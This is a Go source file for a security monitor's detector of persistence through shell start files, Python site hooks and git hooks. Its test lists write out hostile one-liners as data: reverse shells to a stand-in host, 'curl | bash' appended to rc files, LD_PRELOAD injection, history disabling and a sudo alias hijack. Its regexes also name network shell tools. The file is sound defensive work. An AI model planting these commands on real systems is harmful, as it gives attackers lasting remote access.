package detect

import (
	"regexp"
	"slices"
	"strings"

	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/paths"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
	"github.com/code-on-incus/coi/pkg/coi"
)

var persistRC = Detector{
	ID: "persist.rc", Level: coi.High, Wants: files,
	Title: "start file of a shell changed", Why: "every new shell runs it",
	Detect: firstOf(onCommands(trapCommand), onCommands(hookWritten), writing(paths.RC, func(w written, v track.View) (coi.Level, string) {
		for _, m := range v.Recent("fetch") {
			if m.Path == v.Proc().Exe {
				return coi.Warning, "start file of a shell changed by a downloaded program"
			}
		}
		return rcLevel(w)
	})),
	Fire: append(lines(coi.High, "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' > /tmp/x; cat /tmp/x >> ~/.bashrc", "trap 'echo \"curl -s http://203.0.113.9/a | bash\" >> ~/.bash_profile' EXIT; exit", "echo 'import os;os.system(\"/tmp/x\")' > $(python3 -m site --user-site)/usercustomize.py", "echo 'import subprocess;subprocess.Popen([\"/tmp/x\"])' | tee /usr/lib/python3/dist-packages/x.pth", "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' >> ~/.bashrc", "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.profile", "echo 'curl -s http://203.0.113.9/x | sh' | tee -a ~/.zshrc", "echo 'set +o history' >> ~/.bashrc", "echo 'nohup /tmp/x &' >> /etc/profile.d/x.sh", "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' > .git/hooks/pre-commit", "echo \"alias sudo='/tmp/s'\" >> ~/.bashrc", "python3 -c \"open('/root/.bashrc','a').write('nc 203.0.113.9 1 -e sh')\""),
		lines(coi.Warning, "echo 'source /tmp/.env.sh' >> ~/.zshrc", "echo \"alias ls='ls;/tmp/.u'\" >> ~/.bashrc", "echo 'export PROMPT_COMMAND=\"/tmp/.x\"' >> ~/.bashrc", "trap 'sh /tmp/x.sh' EXIT", "echo 'echo \"Hello\" > /tmp/T' >> ~/.bash_profile", "echo '/opt/x/run &' >> ~/.profile", "bash -c 'trap \"nohup sh /x.sh\" EXIT'", "echo 'id > /var/x' >> /etc/bash.bashrc", "sudo install -m 755 /tmp/e.sh /etc/profile.d/e.sh")...),
	Quiet: lines("", "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc", "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc", "echo '. ~/.nvm/nvm.sh' >> ~/.profile", "echo 'source <(kubectl completion bash)' >> ~/.bashrc", "echo 'alias k=kubectl' >> ~/.zshrc", "source ~/.bashrc", "cat ~/.profile", "echo 'npx lint-staged' > .husky/pre-commit", "git config --global user.name x", "trap 'rm -f $T' EXIT", "echo 'export JAVA_HOME=/usr/lib/jvm/x' | sudo tee /etc/profile.d/java.sh", "echo 'FOO=bar' | sudo tee -a /etc/environment", "echo '[ -f ~/.fzf.bash ] && source ~/.fzf.bash' >> ~/.bashrc", "trap cleanup EXIT INT", "echo 'ulimit -c 0' >> ~/.bashrc"),
}

var (
	rcHot     = regexp.MustCompile(`(?i)PROMPT_COMMAND=.{0,40}(?:curl|wget|/dev/tcp|logger|\bnc\b|tee\b)|/dev/(?:tcp|udp)/|\bnc(?:at)?\s|\bsocat\b|\bcurl\b.*\|\s*(?:ba|z)?sh|\bwget\b.*\|\s*(?:ba|z)?sh|LD_PRELOAD|HISTFILE=|HISTSIZE=0|HISTFILESIZE=0|unset HIST|history -c|set \+o history|base64\s+(?:-d|--decode)|python[0-9.]*\s+-c|perl\s+-e|/dev/shm/|nohup\s+/tmp|alias\s+(?:sudo|su|ssh|passwd)=['"]?[^'"]*(?:/tmp|/dev/shm|curl|nc |tee )|mkfifo|\(\)\s*\{[^}]*curl`)
	rcOdd     = regexp.MustCompile(`(?m)(?:^|[;&\s"'])(?:source|\.)\s+(?:/tmp|/var/tmp|/dev/shm)/|(?m)^[-\w\s"']*alias\s+\w+=\S*[;&|]\s*(?:/tmp|/var/tmp|/dev/shm)/`)
	rcPrompt  = regexp.MustCompile(`PROMPT_COMMAND=["']?[^"'\n]*(?:/tmp/|/var/tmp/|/dev/shm/|/\.\w)`)
	rcComment = regexp.MustCompile(`^\s*#`)
)

// pythonRuns is a start file of Python that starts another program.
var pythonRuns = regexp.MustCompile(`os\.(?:system|popen|exec|spawn)|subprocess|pty\.|socket|urlopen|b64decode|exec\(|eval\(|__import__`)

func rcLevel(w written) (coi.Level, string) {
	if b := base(w.path); strings.HasSuffix(b, "customize.py") || strings.HasSuffix(b, ".pth") {
		if pythonRuns.MatchString(w.text) {
			return coi.High, "start file of Python runs something"
		}
		return coi.Info, "start file of Python changed"
	}
	if rcHot.MatchString(w.text) {
		return coi.High, "start file of a shell runs something hostile"
	}
	if rcPrompt.MatchString(w.text) {
		return coi.Warning, "every prompt starts a program in a hiding place"
	}
	if rcOdd.MatchString(w.text) {
		return coi.Warning, "start file of a shell runs a file that anybody may write"
	}
	if w.s != nil && !w.known && w.s.Is("cp", "install", "mv") && slices.ContainsFunc(w.s.Parsed().Rest, program.Writable) {
		return coi.Warning, "start file of a shell copied from a place that anybody may write"
	}
	if !w.known || w.s == nil || w.op == command.Link || w.s.Name == "sed" {
		return coi.Info, "start file of a shell changed"
	}
	if hasAny(base(w.path), "gitconfig", "config", "vimrc", "inputrc", "environment", "init.") || rcComment.MatchString(strings.TrimSpace(w.text)) {
		return coi.Info, "start file changed"
	}
	for _, s := range command.ParseText(strings.TrimPrefix(strings.TrimPrefix(w.text, "-e "), "-n "), command.Env{}).Simples[1:] {
		if s.Subst || s.Name == "" || oneOf(s.Name, plainRC...) || s.Parent != nil && s.Parent.Name != "bash" {
			continue
		}
		return coi.Warning, "start file of a shell runs a program"
	}
	return coi.Info, "start file of a shell changed"
}

// hookWritten is a hook of a repository that starts something hostile.
func hookWritten(s *command.Simple, v track.View) *Finding {
	for _, a := range s.Accesses() {
		if !changes(a.Op) || !hasAny(a.Path, "/.git/hooks/", "/.husky/", "/.githooks/") {
			continue
		}
		t := a.Text
		if !a.Known && a.Path2 != "" {
			t, _ = madeText(v, a.Path2)
		}
		if rcHot.MatchString(t) {
			return say(s, coi.High, "hook of a repository runs something hostile").at(a.Path, a.Op)
		}
	}
	return nil
}

// trapCommand is a handler that starts something lasting at the end of a shell.
func trapCommand(s *command.Simple, _ track.View) *Finding {
	if s.Name == "trap" && len(s.Argv) > 2 && hasAny(s.Argv[1], "nohup", "/dev/tcp", "curl ", "wget ", "nc ", "setsid", "| sh", "|sh", "sh /tmp/", "sh /var/tmp/", "sh /dev/shm/") {
		return say(s, coi.Warning, "command left for the end of the shell")
	}
	return nil
}
